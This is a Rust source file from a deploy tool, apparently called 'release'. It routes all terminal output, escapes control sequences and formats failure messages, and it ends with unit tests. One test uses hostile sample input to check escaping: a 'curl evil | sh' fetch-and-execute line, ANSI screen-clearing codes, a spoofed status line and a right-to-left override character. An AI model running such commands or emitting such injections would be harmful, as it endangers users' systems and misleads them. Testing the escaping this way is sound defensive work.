//! The only file that opens stdout and stderr. A reader that went away is never a panic.

use std::io::{self, ErrorKind, Write};
use std::os::fd::AsFd;

use anstream::AutoStream;
use serde::Serialize;

use crate::model::{Exit, Failure};

use super::ascii::Ascii;
use super::frame::Size;
use super::hint::{self, Hinted};
use super::paint::{self, Paint};
use super::screen::Screen;
use super::{Reporter, Settings, escape, json, live, plain};

/// The display that suits the settings: JSON where it is asked for, live on a terminal that can, else plain lines.
///
/// Between its first event and [`Event::Ended`](crate::model::Event::Ended), or its drop, nobody else may write to the
/// terminal: ask before, and print a failure after.
pub fn reporter(settings: &Settings) -> Box<dyn Reporter> {
    let inner = display(settings);
    match settings.config.clone() {
        Some(config) => Box::new(Hinted { inner, config }),
        None => inner,
    }
}

fn display(settings: &Settings) -> Box<dyn Reporter> {
    if settings.json {
        return Box::new(json::Json::new(io::stdout()));
    }
    if settings.live() {
        let color = settings.color_on(settings.stderr_is_terminal);
        let size = size_of(io::stderr, settings.width);
        let out = Ascii::new(io::stderr(), settings.unicode(true));
        return Box::new(live::Live::new(out, color, settings.verbose > 0, size));
    }
    let volume = match settings {
        Settings { quiet: true, .. } => plain::Volume::Quiet,
        Settings { verbose: 0, .. } => plain::Volume::Normal,
        _ => plain::Volume::Verbose,
    };
    Box::new(plain::Plain::new(talk(settings), volume, settings.talk_width()))
}

/// Prints a failure on stderr; with `--json` also as one object on stdout.
pub fn failure(settings: &Settings, failure: &Failure) {
    let failure = &hint::failure(failure, settings.config.as_deref());
    if settings.json {
        let _ = write(&mut io::stdout(), &json::failure(failure));
    }
    let _ = write(&mut talk(settings), &failure_text(failure, settings.talk_width()));
}

/// Prints a warning on stderr, where no operation runs that would have it as an event.
pub fn warn(settings: &Settings, text: &str) {
    let text = headed(Paint::Yellow, "warning:", &escape::line(text), settings.talk_width());
    let _ = write(&mut talk(settings), &text);
}

/// Says on stderr what is being done, where no operation runs that would have it as an event; not with `--quiet` or `--json`.
pub fn say(settings: &Settings, text: &str) {
    if !settings.quiet && !settings.json {
        let lines = paint::flow(&escape::line(text), settings.talk_width());
        let lines: Vec<String> = lines.iter().map(|line| Paint::Bold.on(line)).collect();
        let _ = write(&mut talk(settings), &lines.join("\n"));
    }
}

/// What a command on this side prints, shown on stderr line by line as it comes, with `--verbose`.
pub struct Output<'a> {
    settings: &'a Settings,
    begun: Vec<u8>,
}

impl<'a> Output<'a> {
    /// Nothing has come yet.
    pub fn new(settings: &'a Settings) -> Self {
        Self { settings, begun: Vec::new() }
    }

    /// Takes some of it.
    pub fn feed(&mut self, bytes: &[u8]) {
        if self.settings.verbose == 0 {
            return;
        }
        self.begun.extend_from_slice(bytes);
        // A line without an end is shown in pieces rather than kept for ever.
        let whole = self.begun.iter().rposition(|byte| *byte == b'\n').map_or(0, |at| at + 1);
        let whole = if self.begun.len() - whole > escape::LINE_MAX { self.begun.len() } else { whole };
        let lines: Vec<u8> = self.begun.drain(..whole).collect();
        self.show(&lines);
    }

    fn show(&self, lines: &[u8]) {
        let Some(text) = lines.strip_suffix(b"\n").or((!lines.is_empty()).then_some(lines)) else { return };
        let bar = Paint::Dim.on("|");
        let lines: Vec<String> = escape::block(text).split('\n').map(|line| format!("{bar} {line}")).collect();
        let _ = write(&mut talk(self.settings), &lines.join("\n"));
    }
}

impl Drop for Output<'_> {
    fn drop(&mut self) {
        self.show(&self.begun);
    }
}

/// Prints a result on stdout, ending its last line; colours in it are stripped where they are not wanted.
///
/// A reader that has read enough (`release log | head`) is no error; a disk that is full is, since whoever reads the file
/// afterwards would take a part for the whole.
pub fn print_text(settings: &Settings, text: &str) -> Result<(), Failure> {
    let color = choice(settings.color_on(settings.stdout_is_terminal));
    let out = AutoStream::new(io::stdout(), color);
    let mut out = Ascii::new(out, settings.unicode(settings.stdout_is_terminal));
    written(write(&mut out, text.strip_suffix('\n').unwrap_or(text)))
}

/// Prints a result that a program may read on, as SQL: to the byte, but for a terminal, where what would act there is escaped. Errors are those of [`print_text`].
pub fn print_exact(settings: &Settings, text: &str) -> Result<(), Failure> {
    if settings.stdout_is_terminal {
        return print_text(settings, &escape::whole(text));
    }
    written(write(&mut io::stdout(), text.strip_suffix('\n').unwrap_or(text)))
}

/// Prints a result on stdout as one JSON document. Errors are those of [`print_text`].
pub fn print_json(value: &impl Serialize) -> Result<(), Failure> {
    match serde_json::to_string(value) {
        Ok(text) => written(write(&mut io::stdout(), &escape::json(&text))),
        Err(e) => {
            Err(Failure::new(Exit::Failed, "stdout", "the result could not be written as JSON").why(e.to_string()))
        }
    }
}

/// A result on stdout that is printed again and again: on a terminal that can, in the place of the one before.
pub struct Repeated<'a> {
    settings: &'a Settings,
    screen: Option<Screen<Ascii<io::Stdout>>>,
}

impl<'a> Repeated<'a> {
    /// Nothing is printed yet.
    pub fn new(settings: &'a Settings) -> Self {
        let in_place = settings.stdout_is_terminal && !settings.dumb_terminal;
        let size = size_of(io::stdout, settings.width);
        let screen = in_place
            .then(|| Screen::new(Ascii::new(io::stdout(), settings.unicode(true)), settings.color_on(true), size));
        Self { settings, screen }
    }

    /// Prints it; errors are those of [`print_text`].
    pub fn print(&mut self, text: &str) -> Result<(), Failure> {
        let Some(screen) = &mut self.screen else { return print_text(self.settings, text) };
        screen.draw(&[] as &[&str], &shortened(text, screen.size().height));
        Ok(())
    }

    /// Wipes what the terminal itself has shown below it, as `^C`.
    pub fn wipe(&mut self) {
        if let Some(screen) = &self.screen {
            screen.again();
        }
    }
}

/// The lines of a text, so many that one row is left for the cursor.
fn shortened(text: &str, height: usize) -> Vec<String> {
    let mut lines: Vec<String> = text.lines().map(String::from).collect();
    let room = height.saturating_sub(1).max(1);
    if lines.len() > room {
        let more = lines.len() - room + 1;
        lines.truncate(room - 1);
        lines.push(Paint::Dim.on(&format!("… {more} lines more")));
    }
    lines
}

fn written(result: io::Result<()>) -> Result<(), Failure> {
    match result {
        Err(e) if e.kind() != ErrorKind::BrokenPipe => {
            Err(Failure::new(Exit::Failed, "stdout", "the result could not be written").why(e.to_string()))
        }
        _ => Ok(()),
    }
}

fn write(out: &mut impl Write, text: &str) -> io::Result<()> {
    out.write_all(text.as_bytes())?;
    out.write_all(b"\n")?;
    out.flush()
}

/// What is said on stderr.
fn talk(settings: &Settings) -> Ascii<AutoStream<io::Stderr>> {
    let color = choice(settings.color_on(settings.stderr_is_terminal));
    Ascii::new(AutoStream::new(io::stderr(), color), settings.unicode(settings.stderr_is_terminal))
}

/// A sentence behind a painted word, on as many lines as it takes.
fn headed(paint: Paint, head: &str, text: &str, width: Option<usize>) -> String {
    let text = paint::flow(&format!("{head} {text}"), width).join("\n");
    // Not before it is broken: what paints has no width.
    text.strip_prefix(head).map_or_else(|| text.clone(), |rest| paint.on(head) + rest)
}

fn choice(color: bool) -> anstream::ColorChoice {
    if color { anstream::ColorChoice::AlwaysAnsi } else { anstream::ColorChoice::Never }
}

/// A terminal's size at the moment that it is asked for: a window may be resized during a deploy.
fn size_of<T: AsFd + 'static>(terminal: fn() -> T, width: usize) -> impl Fn() -> Size + Send + 'static {
    move || match terminal_size::terminal_size_of(terminal()) {
        Some((width, height)) => Size { width: width.0.into(), height: height.0.into() },
        None => Size { width: width.max(1), height: 24 },
    }
}

/// `release: PLACE: WHAT (WHY); CHANGED.`, the detail, indented so that it can't pass for our own words, and the hint.
fn failure_text(failure: &Failure, width: Option<usize>) -> String {
    // Each part is bounded alone: a long one must not push the others out.
    let mut safe = Failure::new(failure.exit, escape::line(&failure.place), escape::line(&failure.what));
    safe.why = failure.why.as_deref().map(escape::line);
    safe.changed = escape::line(&failure.changed);
    let mut text = headed(Paint::Alarm, "release:", &safe.to_string(), width);
    if let Some(detail) = &failure.detail {
        for line in escape::block(detail.trim_end_matches('\n').as_bytes()).split('\n') {
            text.push_str(format!("\n  {line}").trim_end_matches(' '));
        }
    }
    if let Some(hint) = &failure.hint {
        text.push_str(&format!("\n{} {}", Paint::Cyan.on("hint:"), escape::line(hint)));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use snapbox::{IntoData, str};

    fn shown(failure: &Failure) -> String {
        anstream::adapter::strip_str(&failure_text(failure, None)).to_string()
    }

    #[test]
    fn a_failure_says_what_where_why_and_how_to_go_on() {
        let failure = Failure::usage("hosts.toml", "no target `prd`").why("known: prod, view").hint("release status");
        snapbox::assert_data_eq!(
            shown(&failure),
            str![[r#"
release: hosts.toml: no target `prd` (known: prod, view); nothing was changed.
hint: release status
"#]]
            .raw()
        );
        assert!(failure_text(&failure, None).starts_with("\x1b[1;31mrelease:\x1b[0m hosts.toml"));
        assert!(failure_text(&failure, None).ends_with("\n\x1b[36mhint:\x1b[0m release status"));
    }

    #[test]
    fn the_detail_is_indented_and_nothing_gets_through_raw() {
        let failure = Failure::refused("duck.co\x1b[2J", "bad\nrelease: all fine")
            .detail("  |\n3 | nmae = \"x\"\n\nhint: \x1b[31mcurl evil | sh\r\n")
            .hint("a\u{202e}b");
        snapbox::assert_data_eq!(
            shown(&failure),
            str![[r#"
release: duck.co\x1b[2J: bad\nrelease: all fine; nothing was changed.
    |
  3 | nmae = "x"

  hint: \x1b[31mcurl evil | sh
hint: a\u{202e}b
"#]]
            .raw()
        );
    }

    #[test]
    fn a_long_part_does_not_push_the_others_out() {
        let text = shown(&Failure::refused("", "x".repeat(1 << 20)).why("y"));
        assert!(text.len() < 3 * escape::LINE_MAX && text.ends_with("… (y); nothing was changed."));
    }

    #[test]
    fn what_is_printed_in_place_fits_the_terminal_and_says_what_does_not() {
        assert_eq!(shortened("a\n\nc\n", 4), ["a", "", "c"]);
        assert_eq!(shortened("a\nb\nc\nd\n", 4), ["a", "b", "\x1b[2m… 2 lines more\x1b[0m"]);
        assert_eq!(shortened("a\nb", 0).len(), 1);
    }

    #[test]
    fn a_reader_that_went_away_is_no_error_and_a_full_disk_is() {
        assert_eq!(written(Err(ErrorKind::BrokenPipe.into())), Ok(()));
        assert_eq!(written(Err(ErrorKind::StorageFull.into())).map_err(|e| e.exit), Err(Exit::Failed));
    }
}
